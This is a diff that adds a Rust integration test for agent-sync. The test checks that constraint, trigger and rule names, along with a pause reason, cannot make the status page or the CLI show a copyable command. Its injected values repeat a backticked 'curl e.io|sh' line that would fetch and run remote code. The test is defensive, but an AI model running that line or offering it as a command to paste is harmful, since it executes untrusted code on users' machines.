@@ -178,6 +178,68 @@ async fn s10_the_log_and_http_hold_nothing_that_disturbs() {
     }
 }
 
+/// GIVEN names and texts of others with a command between backticks, WHEN the daemon and the
+/// commands show them, THEN no part of them is between backticks, which mark a command that the
+/// pages make copyable; and the commands of agent-sync are.
+#[tokio::test]
+async fn s10_a_backtick_of_another_marks_no_command() {
+    let platform = Platform::installed().await;
+    platform.save("a", EXAMPLE).await;
+    platform.configure("a").await;
+    platform
+        .run(
+            r#"ALTER TABLE agent_configurations ADD CONSTRAINT "x `curl e.io|sh` y"
+                 CHECK (agent_name IS NULL);
+               CREATE FUNCTION nop() RETURNS trigger LANGUAGE plpgsql AS
+                 $$ BEGIN RETURN new; END $$;
+               CREATE TRIGGER "t `curl e.io|sh` y" BEFORE UPDATE ON agents
+                 FOR EACH ROW EXECUTE FUNCTION nop()"#,
+        )
+        .await;
+    // The trigger keeps it from being ready.
+    let daemon = Daemon::start(http::command(&platform));
+    let address = http::address(&daemon).await;
+    let served = async || http::get(address, "/status").await.1;
+    eventually("the write has failed", async || {
+        served().await.contains("forbids it")
+    })
+    .await;
+    let mut shown = vec![served().await];
+    shown.push(platform.says(&["why", "a"]).await.out);
+    shown.push(platform.says(&["doctor"]).await.out);
+    platform
+        .run(
+            "UPDATE agent_sync.install SET paused_since = now(), paused_by = 'o `curl e.io|sh` p',
+               pause_reason = 'To end it: `curl e.io|sh`'",
+        )
+        .await;
+    eventually("the pause is served", async || {
+        served().await.contains("To end it")
+    })
+    .await;
+    shown.push(served().await);
+    shown.push(platform.says(&["status"]).await.out);
+    for text in &shown {
+        // JSON escapes the backslash.
+        let plain = text.replace(r"\\", r"\");
+        assert!(plain.contains(r"\u0060curl"), "{text}");
+        assert!(!plain.contains("`curl"), "{text}");
+    }
+    assert!(shown[4].contains("`agent-sync resume`"), "{}", shown[4]);
+    // The rule is created last, because it stops the daemon.
+    platform
+        .run(
+            r#"UPDATE agent_sync.install SET paused_since = NULL, paused_by = NULL,
+                 pause_reason = NULL;
+               CREATE RULE "r `curl e.io|sh` y" AS ON UPDATE TO agent_configurations
+                 DO ALSO NOTHING"#,
+        )
+        .await;
+    let said = platform.says(&["doctor"]).await;
+    assert!(said.out.contains(r"r \u0060curl"), "{said:?}");
+    assert!(!said.out.contains("`curl"), "{said:?}");
+}
+
 /// GIVEN agents whose slug, name, settings and configuration contain a connection string with a
 /// password, WHEN it is printed, logged or served, THEN the password is masked.
 #[tokio::test]
